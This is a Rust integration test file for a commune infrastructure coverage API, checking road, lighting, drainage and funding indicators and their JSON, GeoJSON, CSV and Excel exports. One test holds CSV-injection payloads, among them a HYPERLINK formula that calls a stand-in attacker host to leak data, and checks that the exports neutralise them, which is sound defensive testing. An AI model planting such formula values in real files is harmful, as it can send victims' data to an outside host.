//! Coverage over tests/fixtures/coverage_square.sql. Expected lengths are derived here from
//! the fixture's coordinates: a road along a parallel spanning Δλ degrees is Δλ times the
//! length of a degree of longitude at its latitude, a road along a meridian Δφ times the
//! length of a degree of latitude (WGS 84; over a kilometre the geodesic and these arcs
//! differ by far less than a millimetre).

use crate::geodesy::{degree_of_latitude, degree_of_longitude};
use crate::helpers::{TestApp, spawn_app};
use serde_json::Value;

/// The fixture's roads, in metres.
struct Lengths {
    r1: f64,
    r2: f64,
    r3: f64,
    r4: f64,
    r5: f64,
    f1: f64,
}

fn lengths() -> Lengths {
    Lengths {
        r1: 0.010 * degree_of_longitude(19.205),
        r2: 0.010 * degree_of_longitude(19.2025),
        r3: 0.008 * degree_of_latitude(19.205),
        r4: 0.010 * degree_of_longitude(19.207),
        r5: 0.010 * degree_of_longitude(19.208),
        f1: 0.006 * degree_of_longitude(19.204),
    }
}

/// The lighting buffer reaches this far beyond the end of a lighting line (the default
/// lit_buffer_m).
const BUFFER: f64 = 15.0;

async fn app() -> TestApp {
    let app = spawn_app().await;
    app.load_fixture("coverage_square.sql").await;
    app
}

async fn coverage(app: &TestApp, as_of: &str) -> Value {
    app.get_json(&format!("/api/coverage?commune=99100&as_of={as_of}")).await
}

fn group<'a>(report: &'a Value, code: &str) -> &'a Value {
    report["groups"].as_array().unwrap().iter().find(|g| g["code"] == code).unwrap()
}

fn f(v: &Value) -> f64 {
    v.as_f64().unwrap_or_else(|| panic!("not a number: {v}"))
}

/// Lengths are served rounded to 0.1 m, percentages to 0.01.
fn assert_m(got: &Value, want: f64, what: &str) {
    assert!((f(got) - want).abs() <= 0.06, "{what}: got {got}, want {want:.2}");
}

fn assert_pct(got: &Value, want: f64, what: &str) {
    assert!((f(got) - want).abs() <= 0.006, "{what}: got {got}, want {want:.3}");
}

#[tokio::test]
async fn a_groups_roads_are_split_by_length_and_a_shared_edge_counts_once() {
    let app = app().await;
    let l = lengths();

    let report = coverage(&app, "2024-01-01").await;

    let a = group(&report, "A");
    // r1 whole, half of r2, r3 on the shared edge (A has the lower id), half of r4.
    let a_road = l.r1 + l.r2 / 2.0 + l.r3 + l.r4 / 2.0;
    assert_m(&a["road_m"], a_road, "A road_m");
    assert_m(&a["concrete_m"], l.r1 + l.r4 / 2.0, "A concrete_m");
    assert_pct(&a["concrete_pct"], 100.0 * (l.r1 + l.r4 / 2.0) / a_road, "A concrete_pct");
    assert_m(&a["hardened_m"], l.r1 + l.r3 + l.r4 / 2.0, "A hardened_m (asphalt counts)");
    // B: the other half of r2 only; the national road and the planned one are left out.
    let b = group(&report, "B");
    assert_m(&b["road_m"], l.r2 / 2.0, "B road_m");
    assert_pct(&b["concrete_pct"], 0.0, "B concrete_pct");
    let national = b["by_class"].as_array().unwrap().iter().find(|c| c["class"] == "national").unwrap();
    assert_eq!(national["counted"], false);
    assert_m(&national["road_m"], l.r5, "B national road");
    // The shared edge is counted once over the commune.
    let total = &report["commune"];
    assert_m(&total["road_m"], l.r1 + l.r2 + l.r3 + l.r4, "commune road_m");
}

#[tokio::test]
async fn a_group_without_roads_has_null_percentages() {
    let app = app().await;

    let report = coverage(&app, "2024-01-01").await;

    let c = group(&report, "C");
    assert_eq!(f(&c["road_m"]), 0.0);
    assert!(c["concrete_pct"].is_null() && c["hardened_pct"].is_null() && c["lit_pct"].is_null(), "{c}");
    assert!(c["targets"]["concrete_pct"]["met"].is_null());
    assert_eq!(c["model_sites"]["total"], 1);
}

#[tokio::test]
async fn roads_outside_every_group_are_unassigned_and_the_sums_match_the_commune() {
    let app = app().await;
    let l = lengths();

    let report = coverage(&app, "2024-01-01").await;

    let unassigned = &report["unassigned"];
    assert_m(&unassigned["road_m"], l.r4 / 2.0, "unassigned road_m");
    assert_pct(&unassigned["concrete_pct"], 100.0, "unassigned concrete_pct");
    assert_eq!(unassigned["model_sites"]["total"], 1);
    for name in ["road_m", "concrete_m", "hardened_m", "lit_m", "flower_m"] {
        let groups: f64 = report["groups"].as_array().unwrap().iter().map(|g| f(&g[name])).sum();
        assert!(
            (groups + f(&unassigned[name]) - f(&report["commune"][name])).abs() < 0.2,
            "{name}: groups {groups} + unassigned {} != commune {}",
            unassigned[name],
            report["commune"][name]
        );
    }
}

#[tokio::test]
async fn lighting_along_half_a_road_lights_that_half_and_the_buffer_beyond() {
    let app = app().await;
    let l = lengths();

    let lit = coverage(&app, "2024-01-01").await;
    let before = coverage(&app, "2020-12-31").await;

    assert!((f(&group(&lit, "A")["lit_m"]) - (l.r1 / 2.0 + BUFFER)).abs() < 0.5, "{}", group(&lit, "A")["lit_m"]);
    assert_eq!(f(&group(&lit, "B")["lit_m"]), 0.0);
    assert_eq!(f(&group(&before, "A")["lit_m"]), 0.0, "the line was lit on 2021-01-01");
}

/// The drainage buffer (the default drain_buffer_m).
const DRAIN_BUFFER: f64 = 10.0;

#[tokio::test]
async fn a_drain_along_part_of_a_road_drains_that_part_and_the_buffer_beyond_from_its_date() {
    let app = app().await;
    let l = lengths();
    let without = coverage(&app, "2024-01-01").await;

    // On r2 in B, from 105.711 to 105.714 E: 0.003 degree of longitude at 19.2025 N.
    sqlx::query(
        "INSERT INTO drainage (commune_code, name, built_on, kind, people_vnd, geom)
         VALUES ('99100', 'd1', '2022-05-01', 'open', 5000000,
                 ST_GeomFromText('LINESTRING(105.711 19.2025, 105.714 19.2025)', 4326))",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let drained = coverage(&app, "2024-01-01").await;
    let before = coverage(&app, "2022-04-30").await;

    let want = 0.003 * degree_of_longitude(19.2025) + 2.0 * DRAIN_BUFFER;
    let b = group(&drained, "B");
    assert!((f(&b["drained_m"]) - want).abs() < 0.5, "B drained_m {} want {want:.1}", b["drained_m"]);
    assert_pct(&b["drained_pct"], 100.0 * f(&b["drained_m"]) / (l.r2 / 2.0), "B drained_pct");
    assert_eq!(f(&group(&drained, "A")["drained_m"]), 0.0, "A's roads are over 100 m from the drain");
    assert_eq!(f(&group(&before, "B")["drained_m"]), 0.0, "the drain was built on 2022-05-01");
    assert_eq!(f(&group(&without, "B")["drained_m"]), 0.0);
    // Its money goes to the group it lies in, from its date.
    assert_eq!(f(&b["people_vnd"]) - f(&group(&without, "B")["people_vnd"]), 5_000_000.0);
    assert_eq!(group(&before, "B")["people_vnd"], group(&without, "B")["people_vnd"]);

    sqlx::query("DELETE FROM drainage WHERE name = 'd1'").execute(&app.pool).await.unwrap();
    let after = coverage(&app, "2024-01-01").await;
    assert_eq!(f(&group(&after, "B")["drained_m"]), 0.0, "deleting the drain undrains the road");
}

#[tokio::test]
async fn a_road_paved_in_2020_is_unpaved_in_2019_and_concrete_in_2021() {
    let app = app().await;
    let l = lengths();

    let in_2019 = coverage(&app, "2019-12-31").await;
    let in_2021 = coverage(&app, "2021-12-31").await;

    // r4 has always been concrete; r1 became concrete on 2020-06-15.
    assert_m(&group(&in_2019, "A")["concrete_m"], l.r4 / 2.0, "A concrete in 2019");
    assert_m(&group(&in_2021, "A")["concrete_m"], l.r1 + l.r4 / 2.0, "A concrete in 2021");
    // Its length counts in both years: it existed, unpaved.
    assert_m(&group(&in_2019, "A")["road_m"], f(&group(&in_2021, "A")["road_m"]), "A road_m");
    // Its money was given when it was paved.
    assert_eq!(group(&in_2019, "A")["people_vnd"], 50_000_000);
    assert_eq!(group(&in_2021, "A")["people_vnd"], 110_000_000);
}

#[tokio::test]
async fn money_flowers_and_sites_follow_the_works_into_their_groups() {
    let app = app().await;
    let l = lengths();

    let report = coverage(&app, "2024-01-01").await;
    let early = coverage(&app, "2022-01-01").await;

    // r2's 100,000,000 VND and 30 workdays split in halves between A and B.
    let (a, b) = (group(&report, "A"), group(&report, "B"));
    assert_eq!(a["people_vnd"], 60_000_000 + 50_000_000);
    assert_eq!(b["people_vnd"], 50_000_000 + 9_000_000);
    assert_eq!(a["state_vnd"], 20_000_000);
    assert_eq!(f(&a["workdays"]), 15.0);
    assert_m(&b["flower_m"], l.f1, "B flower_m");
    assert_eq!(f(&group(&early, "B")["flower_m"]), 0.0, "planted in March 2022");
    assert_eq!(a["model_sites"]["by_field"]["economy"], 1);
    assert_eq!(group(&report, "C")["model_sites"]["by_recognition"]["province"], 1);
    assert_eq!(group(&early, "C")["model_sites"]["total"], 0, "recognised in 2023");
    assert_eq!(report["commune"]["model_sites"]["total"], 3);
}

#[tokio::test]
async fn multi_part_roads_are_split_part_by_part() {
    let app = app().await;
    let l = lengths();
    sqlx::query(
        "INSERT INTO road (id, commune_code, name, class, surface, geom) VALUES (7, '99100', 'r7', 'alley', 'concrete',
           ST_GeomFromText('MULTILINESTRING((105.702 19.209, 105.704 19.209), (105.712 19.209, 105.716 19.209))', 4326))",
    )
    .execute(&app.pool)
    .await
    .unwrap();

    let report = coverage(&app, "2024-01-01").await;

    let part = |d: f64| d * degree_of_longitude(19.209);
    assert_m(&group(&report, "A")["road_m"], l.r1 + l.r2 / 2.0 + l.r3 + l.r4 / 2.0 + part(0.002), "A with r7");
    assert_m(&group(&report, "B")["road_m"], l.r2 / 2.0 + part(0.004), "B with r7");
}

#[tokio::test]
async fn overlapping_groups_are_reported_and_never_double_count() {
    let app = app().await;
    let before = coverage(&app, "2024-01-01").await;
    // D overlaps the east half of A by mistake.
    sqlx::query(
        "INSERT INTO residential_group (id, commune_code, code, name, kind, geom)
         VALUES (13, '99100', 'D', 'Thôn D', 'thon', ST_Multi(ST_MakeEnvelope(105.705, 19.20, 105.71, 19.21, 4326)))",
    )
    .execute(&app.pool)
    .await
    .unwrap();

    let after = coverage(&app, "2024-01-01").await;

    assert_eq!(after["commune"]["road_m"], before["commune"]["road_m"]);
    assert_eq!(group(&after, "A")["road_m"], group(&before, "A")["road_m"], "A has the lower id and keeps its roads");
    assert_eq!(f(&group(&after, "D")["road_m"]), 0.0);
    let overlaps = after["quality"]["overlapping"].as_array().unwrap();
    assert_eq!(overlaps.len(), 1, "{overlaps:?}");
    assert_eq!((overlaps[0]["a"].as_str(), overlaps[0]["b"].as_str()), (Some("A"), Some("D")));
    // Half of A: 0.005 x 0.01 degrees.
    let half_a = 0.005 * degree_of_longitude(19.205) * 0.01 * degree_of_latitude(19.205);
    assert!((f(&overlaps[0]["area_m2"]) - half_a).abs() / half_a < 0.002, "{} vs {half_a}", overlaps[0]["area_m2"]);
    // The groups cover 3 of the commune's 9 squares (D lies inside A): 6 are a gap.
    let gap = f(&after["quality"]["gap_m2"]);
    let square = 0.01 * degree_of_longitude(19.205) * 0.01 * degree_of_latitude(19.205);
    assert!((gap - 6.0 * square).abs() / gap < 0.002, "gap {gap} vs {}", 6.0 * square);
}

#[tokio::test]
async fn edits_update_coverage_at_once() {
    let app = app().await;
    let l = lengths();

    // Concrete r2: attributes are read at request time.
    sqlx::query("UPDATE road SET surface = 'concrete' WHERE id = 2").execute(&app.pool).await.unwrap();
    let report = coverage(&app, "2024-01-01").await;
    assert_m(&group(&report, "B")["concrete_m"], l.r2 / 2.0, "B after concreting r2");

    // Move r2 wholly into B: its pieces are recomputed.
    sqlx::query(
        "UPDATE road SET geom = ST_GeomFromText('LINESTRING(105.711 19.2025, 105.719 19.2025)', 4326) WHERE id = 2",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let report = coverage(&app, "2024-01-01").await;
    assert_m(&group(&report, "B")["road_m"], 0.008 * degree_of_longitude(19.2025), "B after moving r2");

    // Light r2 from end to end, then remove the first lighting line.
    sqlx::query(
        "INSERT INTO lighting_line (id, commune_code, name, done_on, geom) VALUES (2, '99100', 'l2', '2023-01-01',
           ST_GeomFromText('LINESTRING(105.711 19.2025, 105.719 19.2025)', 4326))",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    sqlx::query("DELETE FROM lighting_line WHERE id = 1").execute(&app.pool).await.unwrap();
    let report = coverage(&app, "2024-01-01").await;
    assert_m(&group(&report, "B")["lit_m"], 0.008 * degree_of_longitude(19.2025), "B lit after l2");
    assert_eq!(f(&group(&report, "A")["lit_m"]), 0.0, "A after deleting l1");

    // A rebuild finds what the triggers kept.
    let before_rebuild = coverage(&app, "2024-01-01").await;
    kheo::store::coverage::rebuild(&app.pool, None, 2).await.unwrap();
    let after_rebuild = coverage(&app, "2024-01-01").await;
    assert_eq!(before_rebuild["groups"], after_rebuild["groups"]);
    assert_eq!(before_rebuild["unassigned"], after_rebuild["unassigned"]);
}

#[tokio::test]
async fn a_wider_lighting_buffer_setting_lights_more() {
    let app = app().await;
    let l = lengths();

    sqlx::query("UPDATE commune_setting SET lit_buffer_m = 100 WHERE commune_code = '99100'")
        .execute(&app.pool)
        .await
        .unwrap();
    let report = coverage(&app, "2024-01-01").await;

    assert!((f(&group(&report, "A")["lit_m"]) - (l.r1 / 2.0 + 100.0)).abs() < 0.5, "{}", group(&report, "A")["lit_m"]);
    assert_eq!(report["settings"]["lit_buffer_m"], 100.0);
}

#[tokio::test]
async fn targets_say_whether_they_are_met() {
    let app = app().await;
    sqlx::query(
        r#"UPDATE commune_setting SET targets = '{"concrete_pct": 50, "flower_m": 1000}' WHERE commune_code = '99100'"#,
    )
    .execute(&app.pool)
    .await
    .unwrap();

    let report = coverage(&app, "2024-01-01").await;

    let (a, b) = (group(&report, "A"), group(&report, "B"));
    assert_eq!(a["targets"]["concrete_pct"]["target"], 50.0);
    assert_eq!(a["targets"]["concrete_pct"]["met"], true);
    assert_eq!(b["targets"]["concrete_pct"]["met"], false);
    assert_eq!(b["targets"]["flower_m"]["met"], false, "{} m of flowers", b["flower_m"]);
    assert!(a["targets"].get("lit_pct").is_none());
}

#[tokio::test]
async fn the_choropleth_source_has_the_group_polygons_with_flat_indicators() {
    let app = app().await;

    let response = app.get("/api/coverage.geojson?commune=99100&as_of=2024-01-01").await;
    assert_eq!(response.headers()["content-type"], "application/geo+json");
    let collection: Value = response.json().await.unwrap();

    let features = collection["features"].as_array().unwrap();
    assert_eq!(features.len(), 3);
    let a = features.iter().find(|f| f["properties"]["code"] == "A").unwrap();
    assert_eq!(a["geometry"]["type"], "MultiPolygon");
    let json = coverage(&app, "2024-01-01").await;
    assert_eq!(a["properties"]["concrete_pct"], group(&json, "A")["concrete_pct"]);
    assert_eq!(a["properties"]["concrete_pct_target"], 80.0);
    assert!(a["properties"]["concrete_pct_met"].is_boolean());
    assert_eq!(a["properties"]["model_sites"], 1);
    assert_eq!(collection["commune"]["road_m"], json["commune"]["road_m"]);
}

#[tokio::test]
async fn the_csv_opens_in_excel_with_vietnamese_names() {
    let app = app().await;
    let json = coverage(&app, "2024-01-01").await;

    let response = app.get("/api/coverage.csv?commune=99100&as_of=2024-01-01").await;
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(response.headers()["content-disposition"].to_str().unwrap().contains("kheo-coverage-99100-2024-01-01.csv"));
    let bytes = response.bytes().await.unwrap();

    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 BOM");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 1 + 3 + 2, "header, 3 groups, unassigned, commune");
    assert!(lines[0].starts_with("Mã,Tên,Số hộ,Đường được tính (km),Bê tông (km),Tỷ lệ bê tông (%)"), "{}", lines[0]);
    assert!(lines[1].starts_with("A,Thôn A,100,"));
    assert!(lines[5].starts_with("99100,Xã Hình Vuông,170,"));
    let pct = format!("{:.1}", f(&group(&json, "A")["concrete_pct"]));
    assert!(lines[1].contains(&format!(",{pct},")), "{} lacks {pct}", lines[1]);

    let comma = app.get("/api/coverage.csv?commune=99100&as_of=2024-01-01&decimal=comma").await.text().await.unwrap();
    let a_line = comma.lines().nth(1).unwrap();
    assert!(a_line.starts_with("A;Thôn A;100;"), "{a_line}");
    assert!(a_line.contains(&format!(";{};", pct.replace('.', ","))), "{a_line}");

    let english = app.get("/api/coverage.csv?commune=99100&as_of=2024-01-01&lang=en").await.text().await.unwrap();
    assert!(english.trim_start_matches('\u{feff}').starts_with("Code,Name,Households"));
}

#[tokio::test]
async fn the_timeline_gives_the_indicators_year_by_year() {
    let app = app().await;
    let l = lengths();

    let timeline = app.get_json("/api/coverage/timeline?commune=99100&as_of=2024-06-30").await;

    let years = timeline["years"].as_array().unwrap();
    let numbers: Vec<i64> = years.iter().map(|y| y["year"].as_i64().unwrap()).collect();
    assert_eq!(numbers, (2020..=2024).collect::<Vec<_>>(), "from the first dated work to the as-of year");
    assert_eq!(years[0]["as_of"], "2020-12-31");
    assert_eq!(years[4]["as_of"], "2024-06-30");
    // r1 was concreted in 2020 and lit in 2021.
    assert_m(&years[0]["concrete_m"], l.r1 + l.r4 / 2.0 + l.r4 / 2.0, "2020 concrete");
    assert_eq!(f(&years[0]["lit_m"]), 0.0);
    assert!(f(&years[1]["lit_m"]) > 0.0);
    let a_2020 = years[0]["groups"].as_array().unwrap().iter().find(|g| g["code"] == "A").unwrap();
    assert!(a_2020["concrete_pct"].is_number());

    let window = app.get_json("/api/coverage/timeline?commune=99100&from=2018&to=2019").await;
    let first = &window["years"][0];
    assert_eq!(first["year"], 2018);
    assert_m(&first["concrete_m"], l.r4, "2018: only r4 is concrete");
}

#[tokio::test]
async fn coverage_requests_are_checked() {
    let app = app().await;

    let cases = [
        ("/api/coverage", 400, Some("commune")),
        ("/api/coverage?commune=99100&as_of=2024-13-01", 400, Some("as_of")),
        ("/api/coverage?commune=99100&colour=red", 400, Some("colour")),
        ("/api/coverage?commune=12345", 404, None),
        ("/api/coverage.geojson?commune=12345", 404, None),
        ("/api/coverage.csv?commune=99100&decimal=dot", 400, Some("decimal")),
        ("/api/coverage.csv?commune=99100&lang=fr", 400, Some("lang")),
        ("/api/coverage/timeline?commune=99100&from=2024&to=2020", 400, Some("from")),
        ("/api/coverage/timeline?commune=99100&from=year", 400, Some("from")),
        ("/api/coverage/timeline?commune=99999", 404, None),
    ];
    for (path, status, parameter) in cases {
        let response = app.get(path).await;
        assert_eq!(response.status().as_u16(), status, "{path}");
        let body: Value = response.json().await.unwrap();
        if let Some(parameter) = parameter {
            assert_eq!(body["detail"]["parameter"], parameter, "{path}: {body}");
        }
    }
}

#[tokio::test]
async fn a_repeated_coverage_request_is_a_304_until_a_work_changes() {
    let app = app().await;
    let path = "/api/coverage?commune=99100&as_of=2024-01-01";
    let tag = app.get(path).await.headers()["etag"].to_str().unwrap().to_string();

    let again = app.client.get(app.url(path)).header("If-None-Match", &tag).send().await.unwrap();
    assert_eq!(again.status(), 304);

    sqlx::query("UPDATE flower_route SET trees = 61 WHERE id = 1").execute(&app.pool).await.unwrap();
    let changed = app.client.get(app.url(path)).header("If-None-Match", &tag).send().await.unwrap();
    assert_eq!(changed.status(), 200);
}

#[tokio::test]
async fn the_excel_workbook_holds_the_same_table_as_numbers() {
    use std::io::Read;
    let app = app().await;
    let json = coverage(&app, "2024-01-01").await;

    let response = app.get("/api/coverage.xlsx?commune=99100&as_of=2024-01-01").await;
    assert_eq!(response.status(), 200);
    assert!(response.headers()["content-disposition"].to_str().unwrap().ends_with(".xlsx\""));
    let bytes = response.bytes().await.unwrap();

    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("an xlsx is a zip");
    let mut read = |name: &str| {
        let mut text = String::new();
        archive.by_name(name).unwrap_or_else(|e| panic!("{name}: {e}")).read_to_string(&mut text).unwrap();
        text
    };
    let strings = read("xl/sharedStrings.xml");
    let sheet = read("xl/worksheets/sheet1.xml");
    for text in ["Thôn A", "Xã Hình Vuông", "Tỷ lệ bê tông (%)", "Ngoài các tổ dân phố, thôn"] {
        assert!(strings.contains(text), "{text} missing");
    }
    // The group's concrete share is written as a number, not as text: the figure shown
    // everywhere, the JSON's value rounded half away from zero to one decimal.
    let pct = (f(&group(&json, "A")["concrete_pct"]) * 10.0).round() / 10.0;
    assert!(sheet.contains(&format!("<v>{pct}</v>")), "{pct} not a number cell in the sheet");
}

/// Names typed by users that a spreadsheet would run as formulas (OWASP's "CSV injection"):
/// the CSV prefixes them with `'`, the workbook holds them as strings; numbers stay numbers.
#[tokio::test]
async fn names_that_look_like_formulas_never_run_in_excel() {
    use std::io::Read;
    let app = app().await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak","Thôn A")"#;
    for (id, code, name) in [(10, "A", hyperlink), (11, "+1+1", "+1+1"), (12, "-2", "@SUM(A1:A9)")] {
        sqlx::query("UPDATE residential_group SET code = $2, name = $3 WHERE id = $1")
            .bind(id)
            .bind(code)
            .bind(name)
            .execute(&app.pool)
            .await
            .unwrap();
    }
    let json = coverage(&app, "2024-01-01").await;
    let households = group(&json, "+1+1")["households"].as_i64().unwrap();
    assert_eq!(households, 50, "the fixture's group B");

    for decimal in ["point", "comma"] {
        let body = app.get(&format!("/api/coverage.csv?commune=99100&as_of=2024-01-01&decimal={decimal}")).await;
        let text = body.text().await.unwrap();
        let delimiter = if decimal == "comma" { b';' } else { b',' };
        let mut reader =
            csv::ReaderBuilder::new().delimiter(delimiter).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let row = |code: &str| rows.iter().find(|r| &r[0] == code).unwrap_or_else(|| panic!("no row {code}: {text}"));
        assert_eq!(&row("A")[1], format!("'{hyperlink}"));
        assert_eq!(&row("'+1+1")[1], "'+1+1", "code and name of B");
        assert_eq!(&row("'-2")[1], "'@SUM(A1:A9)");
        // Numbers are written as numbers: the households and the counted kilometres of B.
        assert_eq!(&row("'+1+1")[2], households.to_string());
        // Shown in km with two decimals, rounded half away from zero.
        let km = format!("{:.2}", (f(&group(&json, "+1+1")["road_m"]) / 10.0).round() / 100.0);
        let km = if decimal == "comma" { km.replace('.', ",") } else { km };
        assert_eq!(&row("'+1+1")[3], km);
    }

    let bytes = app.get("/api/coverage.xlsx?commune=99100&as_of=2024-01-01").await.bytes().await.unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut read = |name: &str| {
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let strings = read("xl/sharedStrings.xml");
    let sheet = read("xl/worksheets/sheet1.xml");
    // Shared strings as they are (no quote prefix: a string cell never runs), and not one
    // formula in the sheet.
    assert!(strings.contains(&format!("<t>{hyperlink}</t>")), "{strings}");
    assert!(strings.contains("<t>+1+1</t>") && strings.contains("<t>@SUM(A1:A9)</t>"), "{strings}");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a formula cell in {sheet}");
    assert!(sheet.contains(&format!("<v>{households}</v>")), "households as a number");
}

#[tokio::test]
async fn a_cached_answer_is_kept_gzipped_for_clients_that_take_it_and_reads_the_same() {
    let app = app().await;
    let path = "/api/coverage?commune=99100&as_of=2024-01-01";
    let raw = reqwest::Client::builder().no_gzip().no_brotli().build().unwrap();
    let identity = raw.get(app.url(path)).header("Accept-Encoding", "identity").send().await.unwrap();
    assert!(identity.headers().get("content-encoding").is_none());
    let plain: Value = identity.json().await.unwrap();

    // Twice: computed and compressed, then from the cache; both decode to the same answer,
    // compressed once (a second gzip layer would not decode to JSON).
    for _ in 0..2 {
        let response = raw.get(app.url(path)).header("Accept-Encoding", "gzip, deflate, br").send().await.unwrap();
        assert_eq!(response.status(), 200);
        assert_eq!(response.headers()["content-encoding"], "gzip");
        assert_eq!(response.headers()["vary"], "accept-encoding");
        let bytes = response.bytes().await.unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut text).unwrap();
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), plain);
    }
    // A client that refuses gzip gets it plain.
    let refused = raw.get(app.url(path)).header("Accept-Encoding", "gzip;q=0").send().await.unwrap();
    assert!(refused.headers().get("content-encoding").is_none());
    assert_eq!(refused.json::<Value>().await.unwrap(), plain);
}
